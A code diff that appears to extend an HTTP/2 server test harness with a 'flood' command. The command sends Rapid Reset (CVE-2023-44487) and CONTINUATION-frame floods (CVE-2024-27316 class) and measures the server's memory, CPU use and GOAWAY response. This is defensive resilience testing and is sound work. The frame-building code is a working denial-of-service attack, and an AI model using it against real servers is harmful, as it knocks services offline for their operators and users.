@@ -42,6 +42,19 @@
       or plain), all sent at once while the answers are read, for at most
       LIMIT seconds.  Prints "answers=A" and the count of each status, e.g.
       "answers=10000 200=10000" (fewer answers: the server went silent).
+  h2_streams.py flood HOST PORT PID KIND N LIMIT
+      Flood one HTTP/2 connection with N frame groups of KIND, sent while
+      the answers are read, for at most LIMIT seconds: "rapidreset" (HEADERS
+      with END_STREAM for /index.html, each followed at once by RST_STREAM
+      CANCEL: CVE-2023-44487), "contgrow" (a HEADERS without END_HEADERS,
+      then CONTINUATION frames each holding a 16,000-byte header field) or
+      "contempty" (the same with empty CONTINUATION frames: CVE-2024-27316
+      class).  Prints "closed=yes|no sent=all|part goaway=CODE|none
+      streams=S rss_kb=R cpu_ms=C": whether the server closed the
+      connection, whether all N went out before it did, the GOAWAY's error
+      code, the streams it took in (from the GOAWAY's last stream id), the
+      most server process PID's VmRSS grew during the flood and the CPU
+      time it spent on it.
   h2_streams.py burst HOST PORT PID N PATH [CMD...]
       Open N HTTP/1.1 connections (handshake and one request each), run
       CMD if given (and wait a second), stop the server process PID
@@ -486,6 +499,105 @@ def h1flood(host, port, scheme, n, path, limit):
     return 0
 
 
+def proc_rss_kb(pid):
+    with open("/proc/%d/status" % pid) as f:
+        return int([l for l in f if l.startswith("VmRSS:")][0].split()[1])
+
+
+def proc_cpu_ms(pid):
+    with open("/proc/%d/stat" % pid) as f:
+        fields = f.read().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) * 1000 // os.sysconf("SC_CLK_TCK")
+
+
+def flood_frames(kind, n):
+    """The flood's bytes, a group of frames at a time."""
+    if kind == "rapidreset":
+        block = request_block("/index.html")
+        for i in range(n):
+            sid = 1 + 2 * i
+            yield frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
+        return
+    yield frame(1, 0x1, 1, request_block("/"))  # END_STREAM, no END_HEADERS
+    # literal without indexing, new name "x-big", 16,000-byte value (length
+    # 16000 = 127 + 15873: 7-bit prefix, then 0x81 0x7c)
+    field = b"\x00\x05x-big\x7f\x81\x7c" + b"a" * 16000
+    payload = field if kind == "contgrow" else b""
+    for _ in range(n):
+        yield frame(9, 0, 1, payload)
+
+
+def flood(host, port, pid, kind, n, limit):
+    s = tls(host, port, ["h2"])
+    if s.selected_alpn_protocol() != "h2":
+        print("no h2")
+        return 1
+    rss0, cpu0 = proc_rss_kb(pid), proc_cpu_ms(pid)
+    peak = rss0
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+    s.setblocking(False)
+    st = {"closed": False, "goaway": None, "buf": b""}
+
+    def pump():
+        # read what the server sent; note a GOAWAY and the end of the stream
+        while not st["closed"]:
+            try:
+                data = s.recv(65536)
+            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
+                return
+            except (ssl.SSLError, OSError):
+                data = b""
+            if not data:
+                st["closed"] = True
+                return
+            buf = st["buf"] + data
+            while len(buf) >= 9:
+                length = struct.unpack(">I", b"\0" + buf[:3])[0]
+                if len(buf) < 9 + length:
+                    break
+                if buf[3] == 7 and st["goaway"] is None:
+                    st["goaway"] = struct.unpack(">II", buf[9:17])
+                buf = buf[9 + length:]
+            st["buf"] = buf
+
+    start = time.time()
+    frames = flood_frames(kind, n)
+    pending, done = b"", False
+    while not st["closed"] and time.time() - start < limit:
+        parts, size = [pending], len(pending)
+        while not done and size < 65536:
+            try:
+                parts.append(next(frames))
+                size += len(parts[-1])
+            except StopIteration:
+                done = True
+        pending = b"".join(parts)
+        if not pending:
+            break
+        try:
+            pending = pending[s.send(pending[:16384]):]
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
+            select.select([s], [s], [], 0.05)
+        except (ssl.SSLError, OSError):
+            break  # reset by the server: what it sent first is still to read
+        pump()
+        peak = max(peak, proc_rss_kb(pid))
+    sent_all = done and not pending
+    # Read what is left (the GOAWAY may come before the reset that stopped
+    # the sending); when all went out, the server has 3 s to answer or close.
+    end = time.time() + 3
+    while not st["closed"] and time.time() < end:
+        select.select([s], [], [], 0.1)
+        pump()
+    peak = max(peak, proc_rss_kb(pid))
+    g = st["goaway"]
+    print("closed=%s sent=%s goaway=%s streams=%s rss_kb=%d cpu_ms=%d" % (
+        "yes" if st["closed"] else "no", "all" if sent_all else "part",
+        g[1] if g else "none", (g[0] + 1) // 2 if g else "-", peak - rss0,
+        proc_cpu_ms(pid) - cpu0))
+    return 0
+
+
 def burst(host, port, pid, n, path, cmd):
     req, _ = h1_request(path, False)
     conns = []
@@ -548,6 +660,9 @@ if __name__ == "__main__":
     if cmd == "h1flood":
         sys.exit(h1flood(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), sys.argv[6],
                          float(sys.argv[7])))
+    if cmd == "flood":
+        sys.exit(flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], int(sys.argv[6]),
+                       float(sys.argv[7])))
     if cmd == "h2end":
         sys.exit(h2end(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]))
     if cmd == "h1pipe":
